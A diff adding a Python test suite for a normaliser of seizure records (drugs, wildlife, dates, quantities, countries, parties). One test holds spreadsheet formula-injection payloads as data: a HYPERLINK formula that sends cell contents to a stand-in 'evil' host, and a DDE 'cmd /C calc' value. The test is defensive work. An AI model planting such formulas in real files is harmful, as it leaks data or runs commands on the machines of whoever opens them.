@@ -1,0 +1,268 @@
+"""Vectorised validation: dates, numbers, enums, references, text hygiene; and parser properties."""
+
+from __future__ import annotations
+
+import datetime as dt
+from typing import Any
+
+import polars as pl
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from dragonnet.domain.quantity import parse_number
+from dragonnet.errors import ValidationError
+from dragonnet.intake.normalise import (
+    normalise_items,
+    normalise_parties,
+    parse_date,
+    parse_quantity_value,
+)
+
+TODAY = dt.date(2024, 1, 15)
+BASE = {
+    "case_ref": "C1", "reporting_agency": "VN-CUS", "seizure_date": "2023-06-01", "place_country": "VN",
+    "commodity_class": "drug", "substance": "heroin", "quantity": "1", "unit": "kg",
+}  # fmt: skip
+
+
+def run(rows: list[dict[str, Any]], *, day_first: bool = False) -> tuple[pl.DataFrame, list[dict[str, Any]]]:
+    records = [{**BASE, **r} for r in rows]
+    columns = sorted({k for r in records for k in r})
+    frame = pl.DataFrame(
+        {c: [r.get(c) for r in records] for c in columns} | {"_row": list(range(2, len(records) + 2))},
+        schema={**dict.fromkeys(columns, pl.String), "_row": pl.Int64},
+    )
+    result = normalise_items(frame, day_first=day_first, today=TODAY)
+    return result.frame, result.errors.to_dicts()
+
+
+def reasons(errors: list[dict[str, Any]], column: str) -> list[str]:
+    return [e["reason"] for e in errors if e["column"] == column]
+
+
+def test_dates_iso_and_day_first() -> None:
+    rows = [{"case_ref": f"C{i}", "seizure_date": d} for i, d in enumerate(["2023-06-01", "01/06/2023", "1.6.2023"])]
+    frame, errors = run(rows, day_first=True)
+    assert not errors
+    assert frame["seizure_date"].to_list() == [dt.date(2023, 6, 1)] * 3
+    _, errors = run([{"seizure_date": "01/06/2023"}])
+    assert "day-first" in reasons(errors, "seizure_date")[0]
+
+
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [("2023-02-30", "impossible date"), ("2025-01-01", "date in the future"), ("yesterday", "not a date"),
+     ("1066-10-14", "implausible date")],
+)  # fmt: skip
+def test_bad_dates(text: str, reason: str) -> None:
+    _, errors = run([{"seizure_date": text}])
+    assert reason in reasons(errors, "seizure_date")[0]
+
+
+def test_quantities_decimal_commas_and_mass() -> None:
+    rows = [
+        {"case_ref": "A", "quantity": "1,5", "unit": "kg"},
+        {"case_ref": "B", "quantity": "1.250,5", "unit": "g"},
+        {"case_ref": "C", "quantity": "3 200", "unit": "tablets"},
+        {"case_ref": "D", "quantity": "2", "unit": "tấn"},
+    ]
+    frame, errors = run(rows)
+    assert not errors
+    assert frame["quantity"].to_list() == [1.5, 1250.5, 3200.0, 2.0]
+    assert frame["mass_kg"].to_list() == [1.5, pytest.approx(1.2505), None, 2000.0]
+    assert frame["unit"].to_list() == ["kg", "g", "tablets", "t"]
+    assert frame["quantity_text"].to_list() == ["1,5", "1.250,5", "3 200", "2"]
+
+
+@pytest.mark.parametrize(
+    ("quantity", "unit", "column", "reason"),
+    [("-3", "kg", "quantity", "positive"), ("0", "kg", "quantity", "positive"),
+     ("lots", "kg", "quantity", "not a number"), ("5000000", "kg", "quantity", "implausibly large"),
+     ("1", "bags", "unit", "unknown unit")],
+)  # fmt: skip
+def test_bad_quantities(quantity: str, unit: str, column: str, reason: str) -> None:
+    _, errors = run([{"quantity": quantity, "unit": unit}])
+    assert reason in reasons(errors, column)[0]
+
+
+def test_enums_accept_labels_and_synonyms() -> None:
+    rows = [
+        {"case_ref": "A", "transport_mode": "Air cargo", "direction": "nhập khẩu", "detection_method": "X-ray",
+         "sharing_level": "TLP:GREEN", "commodity_class": "Drugs"},
+        {"case_ref": "B", "transport_mode": "truck", "direction": "进口", "detection_method": "K9",
+         "sharing_level": "white", "commodity_class": "毒品"},
+    ]  # fmt: skip
+    frame, errors = run(rows)
+    assert not errors
+    assert frame["transport_mode"].to_list() == ["air_cargo", "road"]
+    assert frame["direction"].to_list() == ["import", "import"]
+    assert frame["detection_method"].to_list() == ["scanner", "detector_dog"]
+    assert frame["sharing_level"].to_list() == ["green", "clear"]
+    _, errors = run([{"transport_mode": "air carg0"}])
+    error = next(e for e in errors if e["column"] == "transport_mode")
+    assert "not an accepted value" in error["reason"] and error["suggestion"] == "air_cargo"
+
+
+def test_sharing_level_defaults_later_and_arrests_are_whole_numbers() -> None:
+    frame, errors = run([{"arrests": "2"}, {"case_ref": "B", "arrests": "two"}])
+    assert frame["sharing_level"][0] is None  # the importer applies the default (amber)
+    assert reasons(errors, "arrests") == ["not a whole number"]
+
+
+def test_countries_any_language_and_transit_in_order() -> None:
+    frame, errors = run([{"place_country": "Việt Nam", "origin_country": "老挝", "transit_countries": "Laos; Thaïlande",
+                          "destination_country": "Hong Kong"}])  # fmt: skip
+    assert not errors
+    row = frame.row(0, named=True)
+    assert (row["place_country"], row["origin_country"], row["destination_country"]) == ("VN", "LA", "HK")
+    assert row["transit_countries"] == ["LA", "TH"]
+    _, errors = run([{"place_country": "Atlantis"}])
+    assert reasons(errors, "place_country") == ["unknown country 'Atlantis'"]
+
+
+def test_places_by_locode_or_name() -> None:
+    frame, errors = run([{"place_locode": "vn hph"}, {"case_ref": "B", "place_name": "Noi Bai"},
+                         {"case_ref": "C", "place_name": "warehouse near the river"}])  # fmt: skip
+    assert not errors
+    assert frame["place_locode"].to_list() == ["VNHPH", "VNHAN", None]
+    assert frame["place_name"][2] == "warehouse near the river"
+    _, errors = run([{"place_locode": "THBKK"}])
+    assert "is in TH, not in VN" in reasons(errors, "place_locode")[0]
+
+
+def test_substance_and_taxon_resolved_keeping_the_officers_text() -> None:
+    rows = [
+        {"case_ref": "A", "substance": "ICE"},
+        {"case_ref": "B", "commodity_class": "wildlife", "substance": None, "taxon": "pangolin scales"},
+        {"case_ref": "C", "commodity_class": "wildlife", "substance": None, "taxon": "Manis javanika"},
+    ]
+    frame, errors = run(rows)
+    assert not errors
+    assert frame["substance"].to_list()[0] == "methamphetamine"
+    assert frame["substance_text"].to_list()[0] == "ICE"
+    assert frame["substance_control"][0].startswith("1971")
+    assert frame["taxon"].to_list()[1:] == ["Manis", "Manis javanica"]
+    assert frame["cites_appendix"].to_list()[1:] == ["I/II", "I"]
+    assert frame["specimen_type"][1] == "scales"
+    assert frame["taxon_text"][2] == "Manis javanika"
+
+
+def test_unknown_taxon_says_did_you_mean_and_required_by_class() -> None:
+    rows = [
+        {"case_ref": "A", "commodity_class": "wildlife", "substance": None, "taxon": "Pangolinus fakeus"},
+        {"case_ref": "B", "commodity_class": "timber", "substance": None},
+        {"case_ref": "C", "substance": None},
+    ]
+    _, errors = run(rows)
+    taxon = [e for e in errors if e["column"] == "taxon"]
+    assert (taxon[0]["row"], taxon[0]["reason"]) == (2, "unknown taxon 'Pangolinus fakeus'")
+    assert any(e["reason"] == "required for wildlife and timber" for e in taxon)
+    assert reasons(errors, "substance") == ["required for drugs and precursors"]
+
+
+def test_case_level_columns_fill_down_and_must_agree() -> None:
+    rows = [
+        {"seizure_date": "2023-06-01"},
+        {"seizure_date": None, "place_country": None},
+        {"seizure_date": "2023-06-02"},
+    ]
+    frame, errors = run(rows)
+    assert frame["seizure_date"][1] == dt.date(2023, 6, 1)
+    assert [(e["row"], e["column"]) for e in errors] == [(4, "seizure_date")]
+    assert "differs from the case's first row (2023-06-01)" in errors[0]["reason"]
+
+
+def test_control_characters_and_overlong_cells_are_row_errors() -> None:
+    rows = [
+        {"case_ref": "A", "description": "line one\r\nline two\twith tab"},
+        {"case_ref": "B", "description": "bell\x07"},
+        {"case_ref": "C", "description": "x" * 1_000_000},
+        {"case_ref": "D" * 65},
+    ]
+    frame, errors = run(rows)
+    assert frame["description"][0] == "line one\nline two\twith tab"
+    assert [(e["row"], e["column"], e["reason"]) for e in errors] == [
+        (3, "description", "contains control characters"),
+        (4, "description", "text longer than 2000 characters"),
+        (5, "case_ref", "text longer than 64 characters"),
+    ]
+    assert len(errors[1]["value"]) < 100
+
+
+def test_formula_injection_text_is_kept_verbatim() -> None:
+    payload = '=HYPERLINK("http://evil/?"&A1,"click")'
+    frame, errors = run([{"description": payload, "case_ref": "+cmd|' /C calc'!A0"}])
+    assert not errors
+    assert frame["description"][0] == payload and frame["case_ref"][0] == "+cmd|' /C calc'!A0"
+
+
+def test_parties_phone_email_and_enums() -> None:
+    frame = pl.DataFrame(
+        {
+            "case_ref": ["C1", "C1"], "reporting_agency": ["VN-CUS", "VN-CUS"], "name": ["Nguyễn Văn A", "ACME Ltd"],
+            "role": ["người vận chuyển", "consignee"], "kind": [None, "công ty"], "nationality": ["Việt Nam", None],
+            "phone": ["0912 345 678", "n/a"], "email": ["A@Example.COM", "not-an-email"],
+            "birth_date": ["1990-02-03", None], "_row": [2, 3],
+        },
+        schema_overrides={"_row": pl.Int64},
+    )  # fmt: skip
+    result = normalise_parties(frame, today=TODAY, default_region="VN")
+    row = result.frame.row(0, named=True)
+    assert (row["role"], row["kind"], row["nationality"]) == ("courier", "person", "VN")
+    assert row["phone_e164"] == "+84912345678" and row["email_normalised"] == "a@example.com"
+    assert result.frame["kind"][1] == "company" and result.frame["phone_e164"][1] is None
+    assert [e["column"] for e in result.errors.to_dicts()] == ["email"]
+
+
+# --- properties of the parsers -------------------------------------------------------------------------
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=30))
+def test_number_parser_raises_only_declared_errors(text: str) -> None:
+    try:
+        value = parse_quantity_value(text)
+    except ValidationError:
+        return
+    assert isinstance(value, float)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.from_regex(r"\A[+-]?\d{1,7}([.,]\d{1,4})?\Z") | st.from_regex(r"\A\d{1,3}([ .,]\d{3}){1,3}([.,]\d{1,2})?\Z"))
+def test_vectorised_numbers_agree_with_the_domain_parser(text: str) -> None:
+    try:
+        expected: float | None = parse_number(text)
+    except ValidationError:
+        expected = None
+    try:
+        got: float | None = parse_quantity_value(text)
+    except ValidationError:
+        got = None
+    assert got == expected
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=30), st.booleans())
+def test_date_parser_raises_only_declared_errors(text: str, day_first: bool) -> None:
+    try:
+        value = parse_date(text, day_first=day_first, today=TODAY)
+    except ValidationError:
+        return
+    assert dt.date(1900, 1, 1) <= value <= TODAY
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.dates(min_value=dt.date(1900, 1, 1), max_value=TODAY), st.booleans())
+def test_dates_round_trip(day: dt.date, day_first: bool) -> None:
+    assert parse_date(day.isoformat(), day_first=day_first, today=TODAY) == day
+    if day_first:
+        assert parse_date(day.strftime("%d/%m/%Y"), day_first=True, today=TODAY) == day
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
+def test_normalise_never_crashes_on_arbitrary_cells(cells: list[str]) -> None:
+    rows = [{"case_ref": c, "quantity": c, "unit": c, "seizure_date": c, "place_country": c, "taxon": c,
+             "transport_mode": c, "arrests": c} for c in cells]  # fmt: skip
+    run(rows)
